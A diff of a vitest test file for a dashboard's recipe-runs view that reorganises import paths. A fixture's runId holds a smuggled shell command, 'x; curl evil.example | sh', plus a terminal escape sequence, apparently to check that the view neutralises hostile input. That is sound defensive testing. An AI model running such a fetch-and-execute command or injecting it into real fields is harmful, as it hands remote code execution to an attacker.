@@ -1,7 +1,7 @@
 import { describe, expect, it } from "vitest";
-import type { ShownRun } from "../../src/dashboard/recipe-runs.ts";
+import type { ShownRun } from "../../src/dashboard/sources.ts";
+import { reportSite } from "../../src/dashboard/views/layout.ts";
 import { recipeView } from "../../src/dashboard/views/recipes.ts";
-import { reportSite } from "../../src/dashboard/views/site.ts";
 
 const RUN: ShownRun = {
   runId: "x; curl evil.example | sh\n\u001b[2J",
